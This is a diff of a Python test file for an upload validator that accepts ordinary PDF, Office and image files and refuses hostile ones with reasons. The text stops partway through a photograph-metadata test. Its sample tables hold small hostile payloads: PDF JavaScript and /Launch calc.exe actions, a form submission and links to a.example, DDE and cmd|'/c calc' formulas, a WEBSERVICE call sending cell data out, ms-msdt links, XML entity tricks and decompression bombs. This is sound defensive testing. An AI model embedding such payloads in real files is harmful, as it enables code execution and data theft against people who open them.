@@ -1,415 +1,323 @@
-"""What a file is, by its content: which are taken, and why the others are refused."""
+"""Uploaded files: honest ones are accepted, hostile ones are refused with the reason."""
 
 import io
 import random
-import re
 
+import pikepdf
 import pytest
+from django.conf import settings
 from PIL import ExifTags, Image
-from pypdf import PdfWriter
-from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
 
-from iomlaos.publishing.filetypes import RefusedFile, cleaned, page_count, recognise
+from iomlaos.publishing.filetypes import CheckedFile, InvalidFile, check_file
+from iomlaos.publishing.filetypes.types import OFFICE
 from tests.uploads import (
-    PAGE,
-    PAGES,
-    W,
-    content_types,
+    HONEST,
+    S,
+    field,
+    honest,
+    jpeg_of_size,
+    linked,
+    moving_png,
     office,
-    office_parts,
-    office_with,
-    package,
     packed,
-    packed_pdf,
+    parts_of,
     pdf,
-    pdf_of,
-    pdf_that_opens_with,
+    pdf_with,
     photograph,
     picture,
     png_chunk,
+    png_of_size,
+    replaced,
     sheet,
+    typed,
+    word,
 )
 
 
-def kind_of(content: bytes, name: str) -> str:
-    return recognise(io.BytesIO(content), name).media_type
+def check(content: bytes, name: str) -> CheckedFile:
+    return check_file(io.BytesIO(content), name)
 
 
-def refusal(content: bytes, name: str) -> str:
-    with pytest.raises(RefusedFile) as refused:
-        recognise(io.BytesIO(content), name)
-    return str(refused.value)
+def reason(content: bytes, name: str) -> str:
+    with pytest.raises(InvalidFile) as refused:
+        check(content, name)
+    assert refused.value.messages[0]
+    return refused.value.code
 
 
-OFFICE = "application/vnd.openxmlformats-officedocument."
+# --- Honest files -----------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(
-    ("content", "name", "media_type"),
-    [
-        (pdf(), "Factsheet.pdf", "application/pdf"),
-        (pdf(), "FACTSHEET.PDF", "application/pdf"),
-        (office("docx"), "form.docx", OFFICE + "wordprocessingml.document"),
-        (office("xlsx"), "table.xlsx", OFFICE + "spreadsheetml.sheet"),
-        (office("pptx"), "talk.pptx", OFFICE + "presentationml.presentation"),
-        (picture("PNG"), "map.png", "image/png"),
-        (picture("JPEG"), "map.jpg", "image/jpeg"),
-        (picture("JPEG"), "map.jpeg", "image/jpeg"),
-    ],
-)
-def test_a_good_file_is_taken_for_what_it_is(content, name, media_type):
-    assert kind_of(content, name) == media_type
-
-
-SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
-WORD_OF_2003 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
-
-
-@pytest.mark.parametrize(
-    ("content", "name", "reason"),
-    [
-        (b"", "a.pdf", "This file is empty."),
-        (b"<!doctype html><script>alert(1)</script>", "a.pdf", "This is none of the files that are taken"),
-        (SVG, "a.svg", "This is none of the files that are taken"),
-        (SVG, "a.png", "This is none of the files that are taken"),
-        (b"GIF89a/*" + picture("GIF")[8:], "a.gif", "This is none of the files that are taken"),
-        (WORD_OF_2003, "a.doc", "This is an Office file of the old kind (.doc, .xls or .ppt)"),
-        (b"MZ\x90\0" * 20, "a.exe", "This is none of the files that are taken"),
-        (package("a.txt"), "a.docx", "This is a packed file (.zip)"),
-        (package("word/document.xml"), "a.docx", "This is a packed file (.zip)"),
-        (office("docx", "word/vbaProject.bin"), "a.docx", "This file holds macros."),
-        (office("xlsx", "xl/VBAPROJECT.BIN"), "a.xlsx", "This file holds macros."),
-        (office("docx", "word/activeX/activeX1.xml"), "a.docx", "This file holds macros."),
-        (office("docx")[:-30], "a.docx", "This file is damaged"),
-        (pdf()[:200], "a.pdf", "This PDF is damaged"),
-        (b"%PDF-1.7\nnothing more", "a.pdf", "This PDF is damaged"),
-        (picture("PNG")[:-40], "a.png", "This picture is damaged"),
-        (picture("PNG")[:100], "a.png", "This picture is damaged"),
-        (picture("JPEG")[:400], "a.jpg", "This picture is damaged"),
-        (picture("JPEG")[:-600], "a.jpg", "This picture is damaged"),
-    ],
-)
-def test_any_other_file_is_refused_with_the_reason(content, name, reason):
-    assert refusal(content, name).startswith(reason)
-
-
-@pytest.mark.parametrize(
-    ("content", "name", "advice"),
-    [
-        (pdf(), "a.docx", "Give it a name that ends in “.pdf”."),
-        (pdf(), "a.pdf.exe", "Give it a name that ends in “.pdf”."),
-        (pdf(), "a", "Give it a name that ends in “.pdf”."),
-        (pdf(), "a.js.pdf", "The name has two endings, “.js” and “.pdf”. Take out the first."),
-        (office("docx"), "a.docm", "Give it a name that ends in “.docx”."),
-        (picture("PNG"), "a.jpg", "Give it a name that ends in “.png”."),
-    ],
-)
-def test_a_name_that_belies_the_content_is_refused(content, name, advice):
-    assert refusal(content, name).endswith(advice)
-
-
-def test_a_file_over_the_limit_is_refused_with_both_sizes(settings):
-    settings.UPLOAD_LIMIT_BYTES = 500
-    assert refusal(pdf(5), "a.pdf").endswith(
-        "at most 500\xa0bytes are taken. Save it smaller, for instance with smaller pictures."
+@pytest.mark.parametrize("path", HONEST, ids=lambda path: f"{path.parent.name}: {path.name}")
+def test_a_file_of_an_ordinary_program_is_accepted(path):
+    checked = check(path.read_bytes(), path.name)
+    assert path.suffix in checked.file_type.endings
+    assert bool(checked.pages) == (path.suffix == ".pdf")
+    assert (checked.content == path.read_bytes()) == (
+        "on a" not in path.name or path.parent.name != "python-docx"
     )
 
 
-def test_a_file_of_just_the_limit_is_taken(settings):
-    settings.UPLOAD_LIMIT_BYTES = len(pdf())
-    assert kind_of(pdf(), "a.pdf") == "application/pdf"
+@pytest.mark.parametrize("name", ["letter on a template.docx", "letter on a shared template.docx"])
+def test_a_letter_is_stored_without_the_link_to_its_template(name):
+    sent = parts_of(honest(f"python-docx/{name}"))
+    stored = parts_of(check(honest(f"python-docx/{name}"), name).content)
+    assert [part for part in sent if b"attachedTemplate" in sent[part]] == [
+        "word/settings.xml",
+        "word/_rels/settings.xml.rels",
+    ]
+    assert not [part for part in stored if b"attachedTemplate" in stored[part]]
+    # Word opens no file whose parts name a link that is not there.
+    assert b"r:id=" in sent["word/settings.xml"]
+    assert b"r:id=" not in stored["word/settings.xml"]
+    assert list(stored) == list(sent)
+    changed = {part for part in sent if sent[part] != stored[part]}
+    assert changed == {"word/settings.xml", "word/_rels/settings.xml.rels"}
 
 
-def test_an_office_file_locked_with_a_password_is_refused():
-    content = bytearray(office("docx"))
-    content[content.index(b"PK\x01\x02") + 8] |= 1
-    assert refusal(bytes(content), "a.docx") == "This file is locked with a password. Save it without one."
-
-
-def test_an_office_file_that_unpacks_to_far_too_much_is_refused():
-    content = bytearray(office("docx"))
-    size = content.index(b"PK\x01\x02") + 24
-    content[size : size + 4] = (600 * 1024 * 1024).to_bytes(4, "little")
-    assert "unpacks to far more" in refusal(bytes(content), "a.docx")
-
-
-# --- PDF that would act by itself -------------------------------------------------------------
-
-
-def name(text: str) -> NameObject:
-    return NameObject(text)
-
-
-def action(kind: str, **entries) -> DictionaryObject:
-    return DictionaryObject(
-        {name("/S"): name(kind)} | {name(f"/{key}"): value for key, value in entries.items()}
-    )
-
-
-def script() -> DictionaryObject:
-    return action("/JavaScript", JS=TextStringObject("app.alert(1)"))
-
-
-def opening_script(writer: PdfWriter) -> None:
-    writer.root_object[name("/OpenAction")] = script()
-
-
-def opening_script_as_an_object_of_its_own(writer: PdfWriter) -> None:
-    writer.root_object[name("/OpenAction")] = writer._add_object(script())
-
-
-def closing_script_of_a_page(writer: PdfWriter) -> None:
-    writer.pages[0][name("/AA")] = DictionaryObject({name("/C"): script()})
-
-
-def named_script(writer: PdfWriter) -> None:
-    scripts = ArrayObject([TextStringObject("greeting"), writer._add_object(script())])
-    names = DictionaryObject({name("/JavaScript"): DictionaryObject({name("/Names"): scripts})})
-    writer.root_object[name("/Names")] = names
-
-
-def start_of_a_program(writer: PdfWriter) -> None:
-    writer.root_object[name("/OpenAction")] = action("/Launch", F=TextStringObject("calc.exe"))
-
-
-def start_of_a_program_named_elsewhere(writer: PdfWriter) -> None:
-    launch = action("/Launch", F=TextStringObject("calc.exe"))
-    launch[name("/S")] = writer._add_object(name("/Launch"))
-    writer.root_object[name("/OpenAction")] = launch
-
-
-def attachment(writer: PdfWriter) -> None:
-    writer.add_attachment("a.exe", b"MZ")
-
-
-def film(writer: PdfWriter) -> None:
-    annotation = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name("/RichMedia")})
-    writer.pages[0][name("/Annots")] = ArrayObject([annotation])
-
-
-def living_form(writer: PdfWriter) -> None:
-    writer.root_object[name("/AcroForm")] = DictionaryObject({name("/XFA"): TextStringObject("<xdp/>")})
-
-
-@pytest.mark.parametrize(
-    "act",
-    [
-        opening_script, opening_script_as_an_object_of_its_own, closing_script_of_a_page, named_script,
-        start_of_a_program, start_of_a_program_named_elsewhere, attachment, film, living_form,
-    ],
-)  # fmt: skip
-def test_a_pdf_that_acts_or_carries_a_file_is_refused(act):
-    assert refusal(pdf(1, act), "a.pdf").startswith("This PDF holds a script, an action or an attachment")
-
-
-def test_a_script_in_packed_objects_is_found():
-    content = packed_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>")
-    assert refusal(content, "a.pdf").startswith("This PDF holds a script")
-
-
-SCRIPT = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>"
-
-
-@pytest.mark.parametrize("kind", [b"", b"/Type /Other ", b"/Type 9 0 R "])
-@pytest.mark.parametrize("start", [b"", b"7"])
-def test_a_script_in_packed_objects_is_found_whatever_they_are_called(kind, start):
-    content = packed_pdf(SCRIPT).replace(b"/Type /ObjStm ", kind)
-    if start:
-        content = re.sub(rb"startxref\n\d+", b"startxref\n" + start, content)
-    assert refusal(content, "a.pdf").startswith(("This PDF holds a script", "This PDF is damaged"))
-
-
-def test_packed_objects_that_cannot_be_read_are_damage():
-    content = packed_pdf(b"<< /Type /Catalog /Pages 2 0 R >>").replace(b"/Type /ObjStm ", b"")
-    assert refusal(content.replace(b"stream\nx", b"stream\n\0\0"), "a.pdf").startswith("This PDF is damaged")
-
-
-@pytest.mark.parametrize("word", [b"stream", b"endobj", b"obj", b"startxref"])
-def test_a_word_that_lenient_readers_pass_over_hides_no_script(word):
-    catalogue = b"<< /Type /Catalog /Foo " + word + SCRIPT[len(b"<< /Type /Catalog") :]
-    names = pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE, catalogue)
-    assert refusal(names, "a.pdf").startswith("This PDF holds a script")
-
-
-LEADS_ON = b"<< /S /URI /URI (https://elsewhere.example/) >>"
-
-
-@pytest.mark.parametrize("action", [LEADS_ON, b"<< /S /GoTo /D [3 0 R /Fit] /Next [" + LEADS_ON + b"] >>"])
-def test_a_pdf_that_leads_elsewhere_by_itself_is_refused(action):
-    assert refusal(pdf_that_opens_with(action), "a.pdf").startswith("This PDF holds a script, an action")
-
-
-def test_a_pdf_with_a_link_to_be_clicked_is_taken():
-    link = PAGE.replace(b" >>", b" /Annots [<< /Subtype /Link /A " + LEADS_ON + b" >>] >>")
-    content = pdf_of(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", PAGES, link)
-    assert kind_of(content, "a.pdf") == "application/pdf"
-
-
-def test_a_pdf_with_a_million_beginnings_of_a_string_is_read_in_one_go():
-    """Each looked for to the end of the file, they would take hours."""
-    head, mark, tail = pdf().rpartition(b"startxref")
+def test_a_template_that_cannot_be_removed_is_refused():
+    content = honest("python-docx/letter on a template.docx")
     assert (
-        kind_of(head + b"9 0 obj\n" + b"< " * 1_000_000 + b"\n" + mark + tail, "a.pdf") == "application/pdf"
+        reason(replaced(content, "word/_rels/settings.xml.rels", "Letter.dotm", "a>b.dotm"), "a.docx")
+        == "fetches"
     )
 
 
-def test_a_pdf_with_packed_objects_is_taken():
-    content = packed_pdf(b"<< /Type /Catalog /Pages 2 0 R >>")
-    assert kind_of(content, "a.pdf") == "application/pdf"
-
-
-def test_a_pdf_that_opens_at_a_page_is_taken():
-    def opens_at_a_page(writer: PdfWriter) -> None:
-        page = writer.pages[0].indirect_reference
-        writer.root_object[name("/OpenAction")] = ArrayObject([page, name("/XYZ"), NumberObject(0)])
-
-    assert kind_of(pdf(1, opens_at_a_page), "a.pdf") == "application/pdf"
-
-
-def test_a_pdf_locked_with_a_password_is_refused():
-    locked = pdf(1, lambda writer: writer.encrypt("secret", algorithm="RC4-128"))
-    assert refusal(locked, "a.pdf") == "This PDF is locked with a password. Save it without one."
-
-
-@pytest.mark.parametrize("pages", [1, 7])
-def test_the_pages_of_a_pdf_are_counted(pages):
-    content = io.BytesIO(pdf(pages))
-    assert page_count(content, recognise(content, "a.pdf")) == pages
-
-
-def test_other_files_have_no_count_of_pages():
-    content = io.BytesIO(office("docx"))
-    assert page_count(content, recognise(content, "a.docx")) is None
-
-
-# --- Office files that fetch, wherever it is written ------------------------------------------
-
-DDE = f'<w:document {W}><w:body><w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p></w:body></w:document>'
-WORKBOOK = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
-FORMULA = (
-    f"<worksheet {WORKBOOK}><sheetData><row><c><f>cmd|'/c calc'!A1</f></c></row></sheetData></worksheet>"
-)
-ASKING = f'<externalLink {WORKBOOK}><ddeLink ddeService="cmd" ddeTopic="calc"/></externalLink>'
-
-
 @pytest.mark.parametrize(
-    ("ending", "part", "text"),
+    ("content", "name"),
     [
-        ("docx", "main/story.xml", DDE), ("docx", "story.xml", DDE), ("docx", "word/document.foo", DDE),
-        ("docx", "main/story.xml", DDE.encode("utf-16")), ("docx", "word/story.vml", DDE),
-        ("xlsx", "s/sheet1.xml", FORMULA), ("xlsx", "sheet1.xml", FORMULA), ("xlsx", "xl/sheet1.foo", FORMULA),
-        ("xlsx", "xl/sharedStrings1.xml", FORMULA), ("xlsx", "s/sheet1.xml", FORMULA.encode("utf-16-le")),
-        ("xlsx", "xl/a.xml", FORMULA.replace("cmd|", "WEB<!-- -->SERVICE(1)").replace("'/c calc'!A1", "")),
-        ("xlsx", "s/link.xml", ASKING),
+        (picture("PNG"), "map.png"),
+        (picture("JPEG"), "MAP.JPG"),
+        (picture("JPEG", progressive=True), "map.jpeg"),
+        (linked("docx", "hyperlink", "https://www.iom.int/?a=1&amp;b=2"), "a.docx"),
+        (linked("pptx", "image", "NULL"), "a.pptx"),
+        (linked("docx", "package", "embeddings/a.xlsx", "Internal", **{"word/embeddings/a.xlsx": office("xlsx")}), "a.docx"),
+        (office("docx", **{"word/media/a.svg": "<!DOCTYPE svg><svg/>", "customXml/item1.xml": ""}), "a.docx"),
+        (word("<w:p><w:r><w:t>DDEAUTO c:\\cmd.exe</w:t></w:r></w:p>"), "a.docx"),
+        (word(f"<w:p>{field('IF', field(' MERGEFIELD a '), ' = 1')}</w:p>"), "a.docx"),
+        (sheet("'A|b'!A1&amp;'c d'!B2"), "a.xlsx"),
+        (sheet("IF(A1=&quot;'&quot;,&quot;x|y&quot;,2)"), "a.xlsx"),
+        (pdf_with("/OpenAction", "[ 0 /XYZ 0 842 0 ]"), "a.pdf"),
+        (pdf() + b"\r\n" + bytes(4096), "a.pdf"),
+        (pdf(), "ແບບຟອມ (2) – «Laos» №1.v2.PDF"),
     ],
 )  # fmt: skip
-def test_what_would_fetch_is_found_in_any_part(ending, part, text):
-    assert refusal(office_with(ending, **{part: text}), f"a.{ending}").startswith(
-        "When it is opened, this file"
+def test_what_is_harmless_is_accepted(content, name):
+    assert check(content, name).content
+
+
+# --- Hostile files ----------------------------------------------------------------------------
+
+PAGE = b"<!doctype html><script>alert(1)</script>"
+OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
+DDE_LINK = f'<externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+REFRESH = f'<connections {S}><connection id="1" refreshOnLoad="1"/></connections>'
+EXTERNAL_LINK = OFFICE + "spreadsheetml.externalLink+xml"
+DOCTYPE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'
+
+
+def attach(document: pikepdf.Pdf) -> None:
+    document.attachments["a.exe"] = b"MZ"
+
+
+def annotated(annotation: str) -> bytes:
+    return pdf(
+        1,
+        lambda document: document.pages[0].__setitem__(
+            "/Annots", [pikepdf.Object.parse(annotation.encode())]
+        ),
     )
 
 
-@pytest.mark.parametrize("media_type", ["wordprocessingml.document.main+xml", "wordprocessingml.footer+xml"])
-def test_a_part_whose_name_belies_its_type_is_refused(media_type):
-    parts = office_parts("docx")
-    more = f'<Override PartName="/word/more.foo" ContentType="{OFFICE}{media_type}"/>'
-    main = OFFICE + "wordprocessingml.document.main+xml"
-    types = content_types("word/document.xml", main, more)
-    content = packed(parts | {"[Content_Types].xml": types, "word/more.foo": "<a/>"})
-    assert refusal(content, "a.docx").startswith("This file is damaged")
+HOSTILE = {
+    "a page": ("a.pdf", PAGE, "type"),
+    "a program": ("a.docx", b"MZ\x90\0" + bytes(512), "type"),
+    "WebP, not for download": ("a.webp", picture("WEBP"), "type"),
+    "an old Word file": ("a.doc", OLD_OFFICE, "old_office"),
+    "a zip file": ("a.docx", packed({"a.txt": "a"}), "no_document"),
+    "an empty file": ("a.pdf", b"", "empty"),
+    "a wrong ending": ("a.docx", pdf(), "ending"),
+    "no ending": ("a", pdf(), "ending"),
+    "a macro ending": ("a.docm", office("docx"), "ending"),
+    "a folder in the name": ("../a.pdf", pdf(), "name"),
+    "a name that runs backwards": ("a\u202efdp.exe.pdf", pdf(), "name"),
+    "a very long name": ("a" * 200 + ".pdf", pdf(), "name"),
+    # PDF
+    "PDF: script on opening": ("a.pdf", pdf_with("/OpenAction", "<< /S /JavaScript /JS (x) >>"), "active"),
+    "PDF: script by an odd name": ("a.pdf", pdf_with("/OpenAction", "<< /S /J#61vaScript >>"), "active"),
+    "PDF: script on closing": ("a.pdf", pdf_with("/AA", "<< /WC << /S /JavaScript /JS (x) >> >>"), "active"),
+    "PDF: named script": ("a.pdf", pdf_with("/Names", "<< /JavaScript << /Names [ (a) << /JS (x) >> ] >> >>"), "active"),
+    "PDF: script in packed objects": (
+        "a.pdf",
+        pdf_with("/OpenAction", "<< /S /JavaScript /JS (x) >>", object_stream_mode=pikepdf.ObjectStreamMode.generate),
+        "active",
+    ),
+    "PDF: script behind an owner's password": (
+        "a.pdf", pdf_with("/OpenAction", "<< /S /JavaScript >>", encryption=pikepdf.Encryption(owner="x", user="")), "active",
+    ),
+    "PDF: starts a program": ("a.pdf", pdf_with("/OpenAction", "<< /S /Launch /F (calc.exe) >>"), "active"),
+    "PDF: opens another file": ("a.pdf", pdf_with("/OpenAction", r"<< /S /GoToR /F (\\\\203.0.113.9\\a) >>"), "active"),
+    "PDF: sends its form": ("a.pdf", pdf_with("/OpenAction", "<< /S /SubmitForm /F (http://a.example/) >>"), "active"),
+    "PDF: imports data": ("a.pdf", pdf_with("/OpenAction", "<< /S /ImportData /F (a.fdf) >>"), "active"),
+    "PDF: follows a link": ("a.pdf", pdf_with("/OpenAction", "<< /S /URI /URI (https://a.example/) >>"), "active"),
+    "PDF: follows a link later": (
+        "a.pdf", pdf_with("/OpenAction", "<< /S /GoTo /Next [ << /S /URI /URI (https://a.example/) >> ] >>"), "active",
+    ),
+    "PDF: a link that is a script": ("a.pdf", annotated("<< /A << /S /URI /URI (JavaScript:alert) >> >>"), "active"),
+    "PDF: a form that lives": ("a.pdf", pdf_with("/AcroForm", "<< /XFA [] >>"), "active"),
+    "PDF: a film": ("a.pdf", annotated("<< /Subtype /RichMedia >>"), "active"),
+    "PDF: content from a file": (
+        "a.pdf", pdf(1, lambda document: document.Root.__setitem__("/A", document.make_stream(b"", F=b"a"))), "active",
+    ),
+    "PDF: an attachment": ("a.pdf", pdf(1, attach), "attachment"),
+    "PDF: an attachment on a page": ("a.pdf", annotated("<< /Subtype /FileAttachment >>"), "attachment"),
+    "PDF: a password to open": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="x", user="y")), "password"),
+    "PDF: cut off": ("a.pdf", pdf(9)[:-40], "damaged"),
+    "PDF: a beginning alone": ("a.pdf", b"%PDF-1.7\n%%EOF", "damaged"),
+    "PDF: no page": ("a.pdf", pdf(0), "damaged"),
+    "PDF: much behind it": ("a.pdf", pdf() + b"MZ" * 4096, "damaged"),
+    # Office
+    "macros": ("a.docx", typed("docx", "word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), "macros"),
+    "macros by another name": ("a.docx", linked("docx", "vbaProject", "a.bin", "Internal"), "macros"),
+    "a macro document": (
+        "a.docx", replaced(office("docx"), "[Content_Types].xml", OFFICE + "wordprocessingml.document.main+xml",
+                           "application/vnd.ms-word.document.macroEnabled.main+xml"), "macros",
+    ),
+    "a macro sheet": ("a.xlsx", typed("xlsx", "xl/a.xml", "application/vnd.ms-excel.macrosheet+xml"), "macros"),
+    "a control": ("a.docx", linked("docx", "control", "activeX/activeX1.xml", "Internal"), "macros"),
+    "a click that starts a program": (
+        "a.pptx", typed("pptx", "ppt/slides/slide9.xml", OFFICE + "presentationml.slide+xml",
+                        '<a:hlinkClick xmlns:a="urn:a" action="ppaction://program"/>'), "macros",
+    ),
+    "an object": ("a.docx", linked("docx", "oleObject", "embeddings/a.bin", "Internal"), "object"),
+    "an embedded page": ("a.docx", linked("docx", "aFChunk", "a.mht", "Internal"), "object"),
+    "an embedded program": (
+        "a.docx", linked("docx", "package", "embeddings/a.exe", "Internal", **{"word/embeddings/a.exe": b"MZ"}), "object",
+    ),
+    "an embedded program by an odd name": (
+        "a.docx", linked("docx", "package", "embeddings/%61.exe", "Internal", **{"word/embeddings/a.exe": b"MZ"}), "object",
+    ),
+    "macros in the workbook of a chart": (
+        "a.pptx",
+        packed(parts_of(office("pptx")) | {
+            part: linked("xlsx", "vbaProject", "a.bin", "Internal")
+            for part in parts_of(office("pptx")) if part.endswith(".xlsx")
+        }),
+        "macros",
+    ),
+    "a frame from elsewhere": ("a.docx", linked("docx", "frame", "http://a.example/"), "fetches"),
+    "a picture from elsewhere": ("a.pptx", linked("pptx", "image", "\\\\203.0.113.9\\a.png"), "fetches"),
+    "a link that is a script": ("a.docx", linked("docx", "hyperlink", "javascript:alert(1)"), "fetches"),
+    "a link that starts a tool": ("a.docx", linked("docx", "hyperlink", "ms-msdt:/id"), "fetches"),
+    "another workbook": ("a.xlsx", linked("xlsx", "externalLinkPath", "file:///C:/a.xlsx"), "fetches"),
+    "a link without its mode": ("a.docx", linked("docx", "image", "http://a.example/a.png", "Internal"), "fetches"),
+    "DDE": ("a.docx", word(f"<w:p>{field('DDE', 'AUTO c:/cmd.exe')}</w:p>"), "fetches"),
+    "DDE made by another field": ("a.docx", word(f"<w:p>{field(field('QUOTE 68 68 69'), ' cmd')}</w:p>"), "fetches"),
+    "DDE in part made by another field": ("a.docx", word(f"<w:p>{field('DD', field('QUOTE 69'), ' cmd')}</w:p>"), "fetches"),
+    "DDE in short": ("a.docx", word('<w:p><w:fldSimple w:instr=" &#68;DE cmd "/></w:p>'), "fetches"),
+    "DDE in UTF-16": (
+        "a.docx",
+        office("docx", **{"word/document.xml": parts_of(word(field("DDE cmd")))["word/document.xml"].decode().replace("UTF-8", "UTF-16").encode("utf-16")}),
+        "fetches",
+    ),
+    "a formula that starts a program": ("a.xlsx", sheet("1+cmd|'/c calc'!A0"), "fetches"),
+    "a formula that fetches": ("a.xlsx", sheet('_xlfn.WEB<!-- -->SERVICE("http://a.example/"&amp;A1)'), "fetches"),
+    "a link to a program": ("a.xlsx", typed("xlsx", "xl/a.xml", EXTERNAL_LINK, DDE_LINK), "fetches"),
+    "data that loads itself": (
+        "a.xlsx", typed("xlsx", "xl/a.xml", OFFICE + "spreadsheetml.connections+xml", REFRESH), "fetches",
+    ),
+    "a document type": ("a.docx", office("docx", **{"word/styles.xml": DOCTYPE}), "damaged"),
+    "a document type in UTF-16": ("a.docx", office("docx", **{"word/styles.xml": DOCTYPE.encode("utf-16")}), "damaged"),
+    "a part that is not XML": ("a.docx", office("docx", **{"word/styles.xml": "nothing"}), "damaged"),
+    "two parts of one name": ("a.docx", office("docx", **{"WORD/Document.xml": "<a/>"}), "damaged"),
+    "something behind it": ("a.docx", office("docx") + PAGE, "damaged"),
+    "cut off": ("a.docx", office("docx")[:-30], "damaged"),
+    "a bomb": ("a.docx", office("docx", **{"word/a.xml": bytes(99 * 2**20)}), "unpacked"),
+    "very many parts": ("a.docx", office("docx", **dict.fromkeys(map(str, range(10_001)), "")), "unpacked"),
+    # Pictures
+    "JPEG: cut off": ("a.jpg", picture("JPEG")[:-600], "damaged"),
+    "JPEG: many scans": ("a.jpg", picture("JPEG") + b"\xff\xda" * 101, "damaged"),
+    "JPEG: a bomb": ("a.jpg", jpeg_of_size(60_000, 60_000), "pixels"),
+    "PNG: cut off": ("a.png", picture("PNG")[:-40], "damaged"),
+    "PNG: too few pixels": ("a.png", png_of_size(900, 900, bytes(99)), "damaged"),
+    "PNG: a bomb": ("a.png", png_of_size(40_000, 40_000, bytes(9)), "pixels"),
+    "PNG: animated": ("a.png", moving_png(), "animated"),
+}  # fmt: skip
 
 
-DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
+@pytest.mark.parametrize(("name", "content", "code"), HOSTILE.values(), ids=HOSTILE)
+def test_a_hostile_file_is_refused_with_the_reason(name, content, code):
+    assert reason(content, name) == code
 
 
-@pytest.mark.parametrize(
-    ("ending", "part"),
-    [
-        ("xlsx", "xl/sharedStrings.xml"), ("xlsx", "xl/styles.xml"), ("xlsx", "docProps/core.xml"),
-        ("xlsx", "xl/more.foo"), ("pptx", "ppt/slides/slide1.xml"), ("docx", "customXml/item1.xml"),
-    ],
-)  # fmt: skip
-@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
-def test_a_document_type_is_refused_in_every_part_and_encoding(ending, part, encoding):
-    content = office_with(ending, **{part: DOCTYPE.encode(encoding)})
-    assert refusal(content, f"a.{ending}").startswith("This file is damaged")
+def test_a_broken_part_is_found():
+    content = bytearray(honest("openpyxl/rows.xlsx"))
+    content[content.index(b"PK\1\2") + 16] ^= 1
+    assert reason(bytes(content), "a.xlsx") == "damaged"
 
 
-@pytest.mark.parametrize(
-    ("ending", "part", "content"),
-    [
-        ("docx", "word/media/image1.png", picture("PNG")), ("docx", "word/fonts/font1.odttf", b"<\0\1\2" * 20),
-        ("docx", "customXml/item1.xml", '<b:Sources xmlns:b="urn:b"/>'), ("docx", "word/media/a.svg", "<svg/>"),
-        ("xlsx", "xl/printerSettings/printerSettings1.bin", b"P\0r\0i\0" * 40),
-        ("xlsx", "xl/drawings/vmlDrawing1.vml", '<xml xmlns:v="urn:v"><v:shape><br></v:shape></xml>'),
-        ("xlsx", "xl/sharedStrings.xml", f"<sst {WORKBOOK}><si><t>a | b &#38; CALL (us)</t></si></sst>"),
-        ("xlsx", "customXml/item1.xml", ""),
-        ("pptx", "ppt/embeddings/sheet.xlsx", office("xlsx")), ("pptx", "ppt/fonts/font1.fntdata", b"<" * 40),
-    ],
-)  # fmt: skip
-def test_what_office_programs_put_into_their_files_is_taken(ending, part, content):
-    assert kind_of(office_with(ending, **{part: content}), f"a.{ending}").startswith("application/")
+def test_a_file_above_the_limit_is_refused_with_both_sizes(monkeypatch):
+    monkeypatch.setattr(settings, "UPLOAD_LIMIT_BYTES", 500)
+    with pytest.raises(InvalidFile) as refused:
+        check(pdf(9), "a.pdf")
+    assert refused.value.messages[0].endswith("The limit is 500\xa0bytes. Smaller pictures may help.")
 
 
-@pytest.mark.parametrize(
-    "formula", ["'A|b'!A1&amp;'c d'!B2", "&quot;x|y&quot;&amp;A1", "IF(A1=&quot;'&quot;,1,2)"]
-)
-def test_a_formula_that_names_a_sheet_or_quotes_a_text_is_taken(formula):
-    assert kind_of(sheet(formula), "a.xlsx") == OFFICE + "spreadsheetml.sheet"
+def test_a_file_of_just_the_limit_is_accepted(monkeypatch):
+    monkeypatch.setattr(settings, "UPLOAD_LIMIT_BYTES", len(pdf()))
+    assert check(pdf(), "a.pdf").pages == 1
 
 
-@pytest.mark.parametrize("formula", ["A1|x" + "'" * 1_000_000, "1+" + "'" * 1_000_000, "1+" + "' " * 500_000])
-def test_a_formula_longer_than_excel_takes_is_refused_at_once(formula):
-    assert refusal(sheet(formula + "|"), "a.xlsx").startswith("This file is damaged")
-
-
-def test_many_formulas_full_of_quotes_are_read_in_one_go():
-    assert "would fetch" in refusal(sheet(*["1+" + "'" * 8_001] * 200, "cmd|'x'!A1"), "a.xlsx")
+def test_the_pages_of_a_pdf_are_counted():
+    assert check(pdf(7), "a.pdf").pages == 7
 
 
 # --- Pictures without what a camera wrote -----------------------------------------------------
 
 
-def stored(content: bytes, name: str) -> bytes:
-    file = io.BytesIO(content)
-    return cleaned(file, recognise(file, name)) or content
-
-
 @pytest.mark.parametrize("turn", range(1, 9))
 @pytest.mark.parametrize(("kind", "name"), [("JPEG", "a.jpg"), ("PNG", "a.png")])
-def test_a_photograph_keeps_its_points_and_which_way_up_it_is(kind, name, turn):
-    content = photograph(kind, turn)
-    with Image.open(io.BytesIO(content)) as before, Image.open(io.BytesIO(stored(content, name))) as after:
-        assert after.tobytes() == before.tobytes()
-        assert dict(after.getexif()) == ({ExifTags.Base.Orientation: turn} if turn > 1 else {})
-
-
-@pytest.mark.parametrize("text", [b"Somebody", b"Telephone", b"GPS", b"Exif"])
-def test_an_upright_photograph_keeps_no_word_of_its_camera(text):
-    assert text not in stored(photograph(turn=1), "a.jpg")
-
-
-def test_texts_and_dates_of_a_png_are_taken_out_and_its_size_in_print_stays():
-    plain = picture("PNG", dpi=(300, 300))
